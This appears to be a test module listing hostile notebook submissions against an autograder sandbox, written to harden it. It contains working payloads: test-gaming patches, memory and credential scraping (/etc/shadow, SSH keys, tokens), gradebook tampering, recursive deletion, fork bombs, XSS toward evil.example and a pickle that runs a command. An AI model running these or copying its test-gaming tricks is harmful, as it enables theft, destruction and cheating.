"""The hostile class: each attack hands in something to get points it has not earned, to read or
change what is not its own, or to cost somebody else a point.

`{root}` in a source stands for the folder of the course, as a student who knows it would write it.
Every attack says what it earned honestly; the test demands exactly that.
"""

from __future__ import annotations

import copy
import inspect
import os
from collections.abc import Callable
from dataclasses import dataclass

from flowlib.linear import Linear
from tests.grading.course import TASKS, Class, before, cell_of, grade_id_of

# Wrong on purpose: what an attacker's answers look like.
EMPTY = {
    "task1": "def affine(z, a, b):\n    return z, z",
    "task2": "def normal_log_prob(z):\n    return z",
    "task3": "def log_prob(x, a, b):\n    return x",
    "task4": "class Fit:\n    def __init__(self, steps): pass\n    def fit(self, data): pass\n"
    "    def log_prob(self, x): return x",
}


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    name: str
    what: str
    write: Callable[[Class, str], None]
    earned: float = 0.0
    outcome: str = "graded"


ATTACKS: list[Attack] = []


def attack(what: str, earned: float = 0.0, outcome: str = "graded"):
    """Add a function that writes a submission."""

    def add(write):
        ATTACKS.append(Attack(write.__name__, what, write, earned, outcome))
        return write

    return add


def code(
    name: str, what: str, source: str, earned: float = 0.0, outcome: str = "graded", **right: str
) -> None:
    """Add an attack by a cell at the top of a notebook of wrong answers (and some right ones)."""

    def write(klass: Class, student: str) -> None:
        answers = EMPTY | {task: klass.right[task] for task in right}
        notebook = before(klass.notebook(**answers), "task1", source.replace("{root}", str(klass.root)))
        klass.hand_in(student, notebook)

    ATTACKS.append(Attack(name, what, write, earned, outcome))


def answer(name: str, what: str, earned: float = 0.0, outcome: str = "graded", **sources: str) -> None:
    """Add an attack by the answers themselves; the tasks that are not named are right."""

    def write(klass: Class, student: str) -> None:
        filled = {task: source.replace("{root}", str(klass.root)) for task, source in sources.items()}
        klass.hand_in(student, klass.right_notebook(**filled))

    ATTACKS.append(Attack(name, what, write, earned, outcome))


# ---------------------------------------------------------------------------- fooling the tests


@attack("cell tag skip-execution on every test, no code at all")
def skip_tag(klass, student):
    notebook = klass.notebook()
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution"]
    klass.hand_in(student, notebook)


@attack("cell tag raises-exception on every test")
def raises_tag(klass, student):
    notebook = klass.notebook(**EMPTY)
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["raises-exception"]
    klass.hand_in(student, notebook)


@attack("tests replaced by pass, with the marks kept")
def own_tests(klass, student):
    notebook = klass.notebook(**EMPTY)
    for cell in notebook["cells"]:
        if "_test" in grade_id_of(cell):
            cell["source"] = "pass"
    klass.hand_in(student, notebook)


@attack("test cells marked as solutions that hold pass")
def tests_as_solutions(klass, student):
    notebook = klass.notebook(**EMPTY)
    for cell in notebook["cells"]:
        if "_test" in grade_id_of(cell):
            cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
            cell["source"] = "pass"
    klass.hand_in(student, notebook)


@attack("a graded cell of one's own, worth 1000 points")
def own_grade_cell(klass, student):
    notebook = klass.notebook(**EMPTY)
    cell = copy.deepcopy(cell_of(notebook, "task1_test"))
    cell["metadata"]["nbgrader"] |= {"grade_id": "bonus", "points": 1000}
    cell["source"] = "1000.0"
    notebook["cells"].append(cell)
    klass.hand_in(student, notebook)


@attack("1000 points in the metadata of a test that is passed", earned=3.0)
def more_points(klass, student):
    notebook = klass.notebook(**EMPTY | {"task1": klass.right["task1"]})
    cell_of(notebook, "task1_test")["metadata"]["nbgrader"]["points"] = 1000
    klass.hand_in(student, notebook)


@attack("forged outputs that say passed, in a notebook of another language")
def forged_outputs(klass, student):
    notebook = klass.notebook(**EMPTY)
    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            data = {"text/plain": "5.0"}
            output = {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
            cell["outputs"], cell["execution_count"] = [output], 1
    klass.hand_in(student, notebook)


code(
    "input_transformer",
    "an input transformer turns every cell into pass",
    "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
)
code(
    "ast_transformer",
    "an AST transformer drops every assert",
    """
import ast

class Drop(ast.NodeTransformer):

    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""",
)
code(
    "patched_asserts",
    "torch.allclose, assert_close and numpy's assert_allclose patched to agree",
    """
import torch, numpy
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *a, **k: None
torch.trapezoid = lambda *a, **k: torch.ones(())
""",
)
code(
    "patched_flowlib",
    "flowlib.checks patched in memory",
    """
import flowlib.checks
for name in dir(flowlib.checks):
    if name.startswith('check'):
        setattr(flowlib.checks, name, lambda *a, **k: None)
""",
)
code(
    "silent_exceptions",
    "exceptions swallowed by set_custom_exc and by a patched traceback",
    """
ip = get_ipython()
ip.set_custom_exc((Exception,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
""",
)
code(
    "clear_after_run",
    "a post_run_cell hook clears every output",
    """
from IPython.display import clear_output
get_ipython().events.register('post_run_cell', lambda *a: clear_output())
""",
)
code(
    "kernel_session",
    "the kernel's session patched to send only good news",
    "get_ipython().kernel.session.send = lambda *a, **k: None",
)
answer(
    "displayhook",
    "the function shows 3.0 as a result before it fails",
    earned=13.0,
    outcome="flagged",
    task1="""
def affine(z, a, b):
    get_ipython().displayhook(3.0)
    raise ValueError
""",
)
answer(
    "displayhook_too_much",
    "the function shows 3000.0 as a result",
    earned=13.0,
    outcome="flagged",
    task1="""
def affine(z, a, b):
    get_ipython().displayhook(3000.0)
    return (z, z)
""",
)
answer(
    "always_equal",
    "returns an object that equals everything",
    earned=12.0,
    task2="""
class Yes:

    def __getattr__(self, name):
        return Yes()

    def __call__(self, *a, **k):
        return Yes()

    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

    def __sub__(self, other):
        return Yes()

    def __lt__(self, other):
        return True

def normal_log_prob(z):
    return Yes()
""",
)
answer(
    "tensor_subclass",
    "returns a tensor subclass whose comparisons agree",
    earned=12.0,
    task2="""
class Yes(torch.Tensor):

    @classmethod
    def __torch_function__(cls, f, t, a=(), k=None):
        return True

def normal_log_prob(z):
    return torch.zeros(2).as_subclass(Yes)
""",
)
answer(
    "all_nan",
    "NaN everywhere: no comparison with it is true",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    return z * float('nan')
""",
)
answer(
    "all_inf",
    "infinity everywhere",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    return z * 0 + float('inf')
""",
)
answer(
    "made_up_likelihood",
    "a likelihood that is simply high everywhere",
    earned=11.0,
    task4="""
class Fit:

    def __init__(self, steps):
        pass

    def fit(self, data):
        return 0.0

    def log_prob(self, x):
        return torch.zeros_like(x) + 5.0
""",
)
answer(
    "peeking_density",
    "a likelihood that is normalised on the grid it is asked for and high elsewhere",
    earned=11.0,
    task4="""
class Fit:

    def __init__(self, steps):
        pass

    def fit(self, data):
        return 0.0

    def log_prob(self, x):
        return torch.full_like(x, -50.0)
""",
)
answer(
    "frames",
    "walks the stack and the heap for the test's source and its expected values",
    earned=13.0,
    outcome="flagged",
    task1="""
import gc, sys

def affine(z, a, b):
    frame, found = (sys._getframe(), [])
    while frame:
        found += [str(v) for v in frame.f_locals.values() if 'secret_' + 'slope' in str(v)]
        frame = frame.f_back
    found += [s for s in gc.get_objects() if isinstance(s, str) and 'secret_' + 'slope' in s]
    found += [s for s in In if 'secret_' + 'slope' in s]
    print('STOLEN', found)
    assert not found, 'STOLEN' + str(found)
    return (z, z)
""",
)
answer(
    "memory_scan",
    "reads its own memory through /proc for the hidden test",
    earned=13.0,
    task1="""
import hashlib, re
found, scanned = 0, 0
with open('/proc/self/mem', 'rb', 0) as memory:
    for line in open('/proc/self/maps'):
        start, end = (int(number, 16) for number in line.split()[0].split('-'))
        try:
            memory.seek(start)
            content = memory.read(min(end - start, 2**27))
        except (OSError, ValueError, OverflowError):
            continue
        scanned += len(content)
        for hit in re.finditer(b'secret_', content):
            # Only a hash of what follows: the text itself would find itself.
            after = hashlib.sha256(content[hit.end():hit.end() + 13]).hexdigest()
            found += after == '9a950daa17199e8bbafffb25a4e0e654776c1784f9f9f1b06f0cd385641c0cd6'
print('STOLEN' if found else 'nothing', scanned)
def affine(z, a, b):
    return z, z
""",
)
code(
    "reference_in_history",
    "looks for reference answers in history and globals in every run, and shows what it finds",
    """
import builtins, atexit

class Spy:

    def __call__(self, *a):
        for text in list(In) + [str(v) for v in globals().values()]:
            if 'torch.full_like(z, math.log(abs' in text and 'Spy' not in text:
                print('STOLEN', text)
get_ipython().events.register('pre_run_cell', Spy())
get_ipython().events.register('post_run_cell', Spy())
""",
)
answer(
    "exception_with_inputs",
    "raises the hidden inputs as the message of an exception",
    earned=13.0,
    task1="""
def affine(z, a, b):
    if a < 0:
        raise ValueError(f'STOLEN {a} {b}')
    return (a * z + b, z * 0 + math.log(a))
""",
)
answer(
    "spoils_arguments",
    "writes into its arguments, hoping that the test compares with them",
    earned=13.0,
    task1="""
def affine(z, a, b):
    z.zero_()
    return (z, z)
""",
)

OWN_LIMIT = "class TimeLimit(KeyboardInterrupt): pass\n"
answer(
    "own_time_limit",
    "raises a type of the name by which the box stops a cell, to be given further attempts",
    earned=5.0,
    task1=OWN_LIMIT + "raise TimeLimit('the time limit was reached')",
    task2=OWN_LIMIT + "def normal_log_prob(z):\n    raise TimeLimit('the time limit was reached')",
    task3="import os, signal\ndef log_prob(x, a, b):\n    os.kill(os.getpid(), signal.SIGINT)\n    return x",
)
SEARCH = """
import re
found = [text for text in In if "BEGIN " + "SOLUTION" in text]
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        try:
            memory.seek(start)
            content = memory.read(min(end - start, 2**27))
        except (OSError, ValueError, OverflowError):
            continue
        # A reference answer between its markers; this very text does not match.
        found += re.findall(rb"BEGIN " rb"SOLUTION\\s+return [a-z]", content)
"""


@attack("buys a second attempt by a crash, and searches its memory and history for reference answers", 5.0)
def reference_in_memory(klass, student):
    notebook = klass.notebook(**EMPTY | {"task4": klass.right["task4"] + "\nif found:\n    Fit = None\n"})
    notebook = before(notebook, "task4", "import os\nos._exit(0)")
    klass.hand_in(student, before(notebook, "task4", SEARCH))


code(
    "page_cache",
    "leaves word for a later submission in which pages of a shared file lie in memory",
    """
import ctypes, os, torch
shared = os.open(torch.__file__, os.O_RDONLY)
def push_out():
    os.posix_fadvise(shared, 0, 4096, os.POSIX_FADV_DONTNEED)
def read_if_there():
    os.preadv(shared, [bytearray(1)], 0, os.RWF_NOWAIT)
def ask_mincore():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, shared, ctypes.c_long(0))
    if libc.mincore(ctypes.c_void_p(place), ctypes.c_size_t(4096), (ctypes.c_ubyte * 1)()) != 0:
        raise OSError(ctypes.get_errno(), "refused")
for way in (push_out, read_if_there, ask_mincore):
    try:
        way()
        print("ESCAPED by", way.__name__)
    except OSError as refused:
        print(way.__name__, refused.errno)
""",
)


@attack("keeps the inputs of a hidden test, and shows them wherever it can", earned=8.0)
def shows_inputs_later(klass, student):
    task1 = """
seen = []
def affine(z, a, b):
    seen.append((a, z.tolist()))
    return a * z + b, torch.full_like(z, math.log(abs(a)))
"""
    task2 = "def normal_log_prob(z):\n    raise ValueError(f'STOLEN {seen}')"
    task3 = "raise type('STOLEN' + str(seen), (Exception,), {})('STOLEN' + str(seen))"
    notebook = klass.right_notebook(task1=task1, task2=task2, task3=task3)
    klass.hand_in(student, before(notebook, "task4", "print('STOLEN', seen)\nseen, 'STOLEN'"))


# ---------------------------------------------------------------------------- files in the submission


def with_file(name: str, what: str, path: str, content: str) -> None:
    """Add an attack by a file beside a notebook of wrong answers."""

    def write(klass: Class, student: str) -> None:
        klass.hand_in(student, klass.notebook(**EMPTY))
        target = klass.folder(student) / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content.replace("{root}", str(klass.root)))

    ATTACKS.append(Attack(name, what, write))


EVIL = "import os\nopen('{root}/PWNED', 'w').write('x')\n"
with_file(
    "torch_py", "a torch.py beside the notebook", "torch.py", EVIL + "allclose = lambda *a, **k: True\n"
)
with_file("flowlib_folder", "a flowlib/ beside the notebook", "flowlib/__init__.py", EVIL)
with_file("sitecustomize", "a sitecustomize.py beside the notebook", "sitecustomize.py", EVIL)
with_file(
    "ipython_config",
    "an IPython startup file beside the notebook",
    ".ipython/profile_default/startup/00.py",
    EVIL,
)
with_file("nbgrader_config", "an nbgrader_config.py beside the notebook", "nbgrader_config.py", EVIL)
with_file("forged_timestamp", "a timestamp.txt from last year", "timestamp.txt", "2001-01-01 00:00:00 UTC")


@attack("the notebook is a link to a classmate's", outcome="failed")
def link_to_classmate(klass, student):
    (klass.folder(student) / "exercises.ipynb").symlink_to(klass.folder("aa_victim") / "exercises.ipynb")


@attack("the notebook is a link to the solution", outcome="failed")
def link_to_solution(klass, student):
    (klass.folder(student) / "exercises.ipynb").symlink_to(klass.solution)


@attack("the whole submission is a link to a classmate's", outcome="failed")
def folder_link(klass, student):
    (klass.submitted / student).mkdir(parents=True)
    (klass.submitted / student / "01_small").symlink_to(klass.folder("aa_victim"))


@attack("data files are links to the solution and to /etc/passwd", outcome="flagged")
def data_links(klass, student):
    source = """
import pathlib
for p in pathlib.Path('.').rglob('*'):
    if p.is_file() and p.suffix != '.ipynb':
        print('STOLEN', p.read_text()[:2000])
"""
    klass.hand_in(student, before(klass.notebook(**EMPTY), "task1", source))
    (klass.folder(student) / "a.txt").symlink_to("/etc/passwd")
    (klass.folder(student) / "b.txt").symlink_to(klass.solution)
    (klass.folder(student) / "loop").symlink_to(klass.submitted)


@attack("a pipe, a dangling link and a file named to escape", outcome="flagged")
def special_files(klass, student):
    klass.hand_in(student, klass.notebook(**EMPTY))
    os.mkfifo(klass.folder(student) / "data.csv")
    (klass.folder(student) / "gone.txt").symlink_to("/nowhere")
    (klass.folder(student) / "..\\..\\escape\n.py").write_text("x")


@attack("thousands of files, deeply nested", outcome="flagged")
def many_files(klass, student):
    klass.hand_in(student, klass.notebook(**EMPTY))
    deep = klass.folder(student)
    for _ in range(12):
        deep = deep / "d"
        deep.mkdir()
    for number in range(2000):
        (klass.folder(student) / f"z{number:04}.txt").write_text("x")


@attack("a notebook of 80 MB", outcome="failed")
def large_notebook(klass, student):
    notebook = klass.notebook(**EMPTY)
    notebook["metadata"]["x"] = "x" * (80 * 2**20)
    klass.hand_in(student, notebook)


@attack("JSON nested a million deep", outcome="failed")
def nested_json(klass, student):
    klass.hand_in(student, '{"cells":' + "[" * 1_000_000)


@attack("cells that are no cells, sources that are no text")
def odd_types(klass, student):
    notebook = klass.notebook(**EMPTY)
    notebook["cells"] += [None, 5, [], {"cell_type": ["code"]}, {"cell_type": "code", "source": {"a": 1}}]
    notebook["cells"] += [{"cell_type": "code", "source": "1", "metadata": {"nbgrader": {"grade_id": ["x"]}}}]
    notebook["cells"] += [{"cell_type": "code", "source": "1", "metadata": "no"}]
    klass.hand_in(student, notebook)


@attack("control characters, lone surrogates and right-to-left marks in cells")
def odd_text(klass, student):
    notebook = klass.notebook(**EMPTY)
    notebook["cells"][0]["source"] = "\ud800 \x00 \x1b[31m \u202e </script>"
    klass.hand_in(student, before(notebook, "task1", "print('\\ud800 \\x00 \\x1b[31m')"))


# ---------------------------------------------------------------------------- reading and writing outside

STEAL = """
import glob, subprocess
places = [
    "{root}/solutions/*/*", "{root}/submitted/*/*/*", "{root}/out/**/*", "../*", "/work/*/solutions/*/*",
    "/etc/shadow", "/root/.ssh/*", "/home/*/.ssh/*", "/proc/*/environ", "/tmp/*/*",
]
for path in (path for place in places for path in glob.glob(place, recursive=True)):
    if path.startswith("/tmp/work/"):
        continue  # its own
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    if "solution" in text or "TOKEN" in text or "root:" in text:
        print("STOLEN", path, text[:200])
own = "-not -path '/proc/*' -not -path '/submission/*' -not -path '/tmp/work/*'"
find = f"find / -name exercises.ipynb {own} 2>/dev/null | sed 's/^/STOLEN /'; env | grep -i token"
print(subprocess.run(find, shell=True, capture_output=True, text=True).stdout)
"""
code(
    "read_everything",
    "looks for solutions, classmates, keys and tokens in files and environments",
    STEAL,
)
code(
    "environment",
    "reads the environment for tokens and passwords",
    """
import os
print([f'STOLEN {k}' for k in os.environ if 'TOKEN' in k or 'PASS' in k or 'KEY' in k])
print(open('/proc/self/environ').read())
""",
)
code(
    "write_gradebook",
    "raises its own points and zeroes a classmate's in the gradebook",
    """
import sqlite3, glob
for path in glob.glob('{root}/out/*.db') + glob.glob('/**/gradebook.db', recursive=True):
    db = sqlite3.connect(path)
    db.execute('UPDATE grade SET manual_score = 100')
    db.commit()
""",
)
code(
    "delete_everything",
    "deletes the course, the gradebook and all submissions",
    """
import shutil
for path in ('{root}', '{root}/out', '{root}/submitted', '/usr', '/tmp', '/submission'):
    shutil.rmtree(path, ignore_errors=True)
""",
)
code(
    "overwrite_classmate",
    "overwrites a classmate's notebook, the solution and the course's configuration",
    """
import os
targets = [
    "submitted/aa_victim/01_small/exercises.ipynb", "submitted/zz_sentinel/01_small/exercises.ipynb",
    "solutions/01_small/exercises.ipynb", "nbgrader_config.py", "out/journal/01_small.jsonl",
]
for path in targets:
    try:
        os.makedirs(os.path.dirname('{root}/' + path), exist_ok=True)
        open('{root}/' + path, 'w').write('{}')
    except OSError as error:
        print(error)
""",
)
code(
    "poison_environment",
    "writes into the Python that grades: site-packages, flowlib, IPython's startup",
    """
import flowlib, os, site, sys
folders = [
    *site.getsitepackages(), os.path.dirname(flowlib.__file__), sys.base_prefix, "/usr/lib", "/home",
    "/root/.ipython/profile_default/startup",
]
for folder in folders:
    try:
        open(folder + '/zz_poison.pth', 'w').write('import os')
        print('WRITTEN', folder)
    except OSError as error:
        print(error)
""",
)
code(
    "links_in_cwd",
    "leaves links to the gradebook in its working directory, for the grader to follow",
    """
import os
for name in ('exercises.ipynb', 'gradebook.db', 'x'):
    try:
        os.path.exists(name) and os.remove(name)
        os.symlink('{root}/out/gradebook.db', name)
    except OSError as error:
        print(error)
""",
)
code(
    "network",
    "sends what it knows to the outside, and to services of this machine",
    r"""
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 5432), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, 2)
        print("CONNECTED", address)
    except OSError as error:
        print(error)
for name in ("/run/docker.sock", "/tmp/.X11-unix/X0", "\0{root}"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print("CONNECTED", name)
    except OSError as error:
        print(error)
""",
)

# ---------------------------------------------------------------------------- breaking out, breaking down

code(
    "kill_all",
    "sends SIGKILL to its parent, to all processes and to process groups",
    """
import os, signal
for pid in [os.getppid(), *range(2, 400)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
)
code(
    "new_namespaces",
    "asks for new namespaces, mounts and other processes' memory",
    """
import ctypes, subprocess
libc = ctypes.CDLL(None)
print(libc.unshare(268435456), libc.ptrace(16, 1, 0, 0), libc.mount(b'/', b'/tmp', b'', 4096, 0))
print(subprocess.run(['unshare', '-Urm', 'id'], capture_output=True))
if libc.unshare(268435456) == 0 or libc.ptrace(16, 1, 0, 0) == 0:
    print('ESCAPED')
""",
)
code(
    "set_uid",
    "tries to become root again",
    """
import os, subprocess
for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        act()
        print('ESCAPED')
    except OSError as error:
        print(error)
ask = dict(shell=True, capture_output=True, stdin=subprocess.DEVNULL)
print(subprocess.run('su -c id; sudo -n id; mount', **ask).stdout.decode())
""",
)
code(
    "daemon",
    "leaves a daemon that outlives the grading",
    """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3000) # flowcourse-daemon'])
    os._exit(0)
""",
)
code(
    "fork_bomb",
    "a fork bomb",
    """
import os
try:
    while True:
        os.fork()
except OSError:
    pass
""",
    outcome="any",
)
code(
    "memory",
    "allocates memory until it ends",
    """
x = []
while True:
    x.append(bytearray(2 ** 26))
""",
)
code(
    "memory_of_many",
    "allocates memory in many processes at once",
    """
import os, time
for _ in range(40):
    if os.fork() == 0:
        x = bytearray(2 ** 28)
        for i in range(0, 2 ** 28, 4096):
            x[i] = 1
        time.sleep(30)
        os._exit(0)
time.sleep(3)
""",
)
code(
    "hidden_memory",
    "allocates memory that no process owns: memfd, shared memory, /tmp, /dev/shm",
    """
import os, ctypes
libc = ctypes.CDLL(None)
print([libc.shmget(0, 2 ** 30, 896) for _ in range(20)])
for i in range(200):
    try:
        fd = os.memfd_create(str(i))
        [os.write(fd, b'x' * 2 ** 20) for _ in range(60)]
        print('ESCAPED')
    except OSError:
        pass
for folder in ('/tmp', '/dev/shm', '/dev', '/'):
    try:
        for i in range(100):
            open(f'{folder}/{i}', 'wb').write(b'x' * 2 ** 25)
    except OSError as error:
        print(folder, error)
""",
)
code(
    "output_lines",
    "100 MB of output in lines",
    "for i in range(1_000_000): print('x' * 100)",
)
code(
    "output_one_line",
    "50 MB of output in one line",
    "print('x' * 50_000_000)",
)
code(
    "output_displays",
    "a thousand large pictures and pages",
    """
from IPython.display import HTML, Image, display
for i in range(1000):
    display(HTML('<b>' + 'y' * 100000 + '</b>'))
""",
)
code(
    "output_structure",
    "outputs of the wrong kinds and depths",
    r"""
ip = get_ipython()
from IPython.display import publish_display_data
publish_display_data({'text/html': {'a': [1]}, 5: 'x', 'image/png': 'not base64 \x00'})
import __main__, gc
for o in gc.get_objects():
    if type(o).__name__ == 'Notebook':
        o.outputs.append('no output')
        o.outputs.append({'output_type': 'stream', 'text': 5})
        o.outputs.append({'output_type': 'error', 'traceback': [[1]]})
""",
)
SCRIPT = (
    "<script>alert('XSS')</script><img src=x onerror=alert('XSS')><svg onload=alert('XSS')></svg>"
    "<a href=\"javascript:alert('XSS')\">x</a><iframe src='//evil.example'></iframe>"
    "<style>*{display:none}</style>"
    "<meta http-equiv=refresh content='0;url=//evil.example'>"
    "<form action=//evil.example><input name=p></form>"
)


@attack("scripts in outputs, in markdown, in an error, in a figure")
def scripts(klass, student):
    source = f"""
from IPython.display import HTML, Javascript, Markdown, display
s = {SCRIPT!r}
for kind in (HTML, Javascript, Markdown):
    display(kind(s))
print(s)
kinds = ["image/svg+xml", "text/latex", "application/javascript", "image/png"]
display(dict.fromkeys(kinds, s), raw=True)
raise ValueError(s)
"""
    notebook = before(klass.notebook(**EMPTY), "task1", source)
    notebook["cells"][0]["source"] = SCRIPT
    cell_of(notebook, "task5")["source"] = SCRIPT
    cell_of(notebook, "task2")["source"] = f"def normal_log_prob(z):\n    raise ValueError({SCRIPT!r})"
    klass.hand_in(student, notebook)


code(
    "sleep",
    "sleeps for ever",
    """
import time
time.sleep(10 ** 6)
""",
)
code(
    "loop",
    "loops for ever",
    "while True: pass",
)
code(
    "stubborn_loop",
    "loops for ever and catches every interrupt",
    """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
)
code(
    "stop_self",
    "stops its own process",
    """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""",
)
answer(
    "deaf_function",
    "a tested function ignores all signals and hangs",
    earned=13.0,
    task1="""
import signal, time

def affine(z, a, b):
    for s in range(1, 64):
        try:
            signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    time.sleep(1000)
""",
)
SLOW = """
import time
class Slow:
    def __init__(self, *args):
        time.sleep(2)
    def __call__(self, *args):
        time.sleep(2)
        return torch.zeros(2)
    fit = log_prob = __call__
"""
answer(
    "slow_calls",
    "every tested function is slow, just below the limit",
    earned=0.0,
    **{
        task: SLOW + line
        for task, line in (
            ("task1", "affine = Slow()"),
            ("task2", "normal_log_prob = Slow()"),
            ("task3", "log_prob = Slow()"),
            ("task4", "Fit = Slow"),
        )
    },
)
code(
    "exit_in_cell",
    "os._exit in a cell",
    """
import os
os._exit(0)
""",
)
answer(
    "exit_in_function",
    "os._exit in a tested function",
    earned=12.0,
    task2="""
import os

def normal_log_prob(z):
    os._exit(0)
""",
)
answer(
    "exit_everywhere",
    "os._exit in every tested function",
    task1="""
import os

def affine(*a):
    os._exit(0)
""",
    task2="def normal_log_prob(*a): os._exit(0)",
    task3="def log_prob(*a): os._exit(0)",
    task4="def Fit(*a): os._exit(0)",
)
answer(
    "crash",
    "a segmentation fault in a tested function",
    earned=12.0,
    task2="""
import ctypes

def normal_log_prob(z):
    ctypes.string_at(0)
""",
)

# ---------------------------------------------------------------------------- the wire between box and grader

WIRE = "import os, socket, struct, json\ns = socket.socket(fileno=os.dup(3)); s.setblocking(True)\n"
code(
    "wire_garbage",
    "garbage on the connection to the grader",
    WIRE + "s.sendall(b'\\xff' * 100000)",
    outcome="flagged",
)
code(
    "wire_huge",
    "a message that announces 4 GB",
    WIRE + "s.sendall(struct.pack('>II', 2**32 - 1, 2**32 - 1))",
    outcome="flagged",
)
code(
    "wire_forged",
    "forged replies: all tests passed, all points given",
    WIRE
    + """
for i in range(100):
    verdict = {'dict': [['status', 'passed'], ['score', 100]]}
    m = json.dumps({'dict': [['id', i], ['reply', verdict]]}).encode()
    s.sendall(struct.pack('>II', len(m), 0) + m)
""",
    outcome="flagged",
)
code(
    "wire_pickle",
    "a pickle that runs a command, and a block of numbers with lying sizes",
    WIRE
    + """
import pickle

class Evil:

    def __reduce__(self):
        return (os.system, ('touch {root}/PWNED',))
p = pickle.dumps(Evil())
h = json.dumps({'tensor': '0'}).encode()
t = json.dumps({'0': {'dtype': 'F32', 'shape': [2 ** 40], 'data_offsets': [0, 8]}}).encode()
s.sendall(struct.pack('>II', len(h), len(t) + 8) + h + struct.pack('<Q', len(t)) + t)
s.sendall(p)
""",
    outcome="flagged",
)
code(
    "wire_deep",
    "a message nested without end",
    WIRE
    + """
m = b'{"list":[' * 100000
s.sendall(struct.pack('>II', len(m), 0) + m)
""",
    outcome="flagged",
)
code(
    "wire_closed",
    "closes the connection",
    """
import os
os.close(3)
""",
)
answer(
    "large_reply",
    "returns 1 GB",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    return torch.zeros(2 ** 28)
""",
)
answer(
    "wide_reply",
    "returns a shape that is huge and holds nothing",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    return torch.zeros(2 ** 40, 0)
""",
)
answer(
    "deep_reply",
    "returns lists in lists without end",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    x = []
    x.append(x)
    return x
""",
)
answer(
    "long_number",
    "returns an integer of a million digits",
    earned=12.0,
    task2="""
def normal_log_prob(z):
    return 10 ** 1000000
""",
)
answer(
    "odd_words",
    "raises an error whose words no database and no file can hold",
    earned=12.0,
    task2=r"""
def normal_log_prob(z):
    raise ValueError("\x00 \ud800 \x1b[2J \u202e '; DROP TABLE grade; --")
""",
)
answer(
    "odd_errors",
    "raises errors that know no words, and of types that mean something to the grader",
    earned=9.0,
    task1="""
class TimeLimit(BaseException):
    pass

class Bad(Exception):

    def __str__(self):
        raise KeyboardInterrupt

def affine(z, a, b):
    raise Bad()
""",
    task2="""
def normal_log_prob(z):
    raise SystemExit(0)
""",
)

# ---------------------------------------------------------------------------- what a task forbids


def forbidden(name: str, what: str, source: str, above: str = "", found: bool = True) -> None:
    """Add an attack that answers task 2 with the finished density, which the task does not allow.

    Args:
        above: a cell of the student's own above the task.
        found: reading finds it, so task 2 earns nothing; else its points stand until a person has looked.
    """

    def write(klass: Class, student: str) -> None:
        notebook = klass.right_notebook(task2=source)
        klass.hand_in(student, before(notebook, "task2", above) if above else notebook)

    earned, outcome = (12.0, "graded") if found else (16.0, "flagged")
    ATTACKS.append(Attack(f"source_{name}", f"the finished density, {what}", write, earned, outcome))


READY = "torch.distributions.Normal(0.0, 1.0).log_prob"
DEF = f"def normal_log_prob(z):\n    return {READY}(z)"
forbidden("def", "as it is", DEF)
forbidden("assigned", "bound by assignment", f"normal_log_prob = {READY}")
forbidden("lambda", "in a lambda", f"normal_log_prob = lambda z: {READY}(z)")
forbidden("under_if", "under an if", "if True:\n    " + DEF.replace("\n", "\n    "))
forbidden("loop", "bound by a loop", f"for normal_log_prob in [{READY}]: pass")
forbidden(
    "global",
    "bound by a function",
    f"def put():\n    global normal_log_prob\n    normal_log_prob = {READY}\nput()",
)
forbidden("own_cell", "from a cell of its own", "normal_log_prob = ready", f"ready = {READY}")
forbidden("all_above", "in a cell of its own, the task's cell empty", "# see above", DEF)
forbidden(
    "helper",
    "in a helper of another cell",
    "def normal_log_prob(z):\n    return help_me(z)",
    DEF.replace("normal_log_prob", "help_me"),
)
forbidden("timed", "below %%time", "%%time\n" + DEF)
forbidden("shell", "below a line for the shell", "!true\n" + DEF)
forbidden(
    "alias",
    "under another name",
    f"D = checks.torch.distributions\n{DEF.replace('torch.distributions', 'D')}",
)
forbidden(
    "subclass",
    "inherited",
    "class Mine(torch.distributions.Normal): pass\nnormal_log_prob = Mine(0.0, 1.0).log_prob",
)
forbidden("default", "as a default argument", f"def normal_log_prob(z, ready={READY}):\n    return ready(z)")
forbidden(
    "table",
    "put into a table",
    "def normal_log_prob(z):\n    return table['f'](z)",
    f"table = {{}}\ntable.update(f={READY})",
)
forbidden(
    "literal", "by getattr with its name", f"normal_log_prob = getattr(torch, 'distributions'){READY[19:]}"
)
forbidden("exec", "in a string, so that no definition is found", f"exec({DEF!r})")
forbidden(
    "spelt",
    "by a name put together",
    DEF.replace("torch.distributions", "getattr(torch, 'distri' + 'butions')"),
    found=False,
)
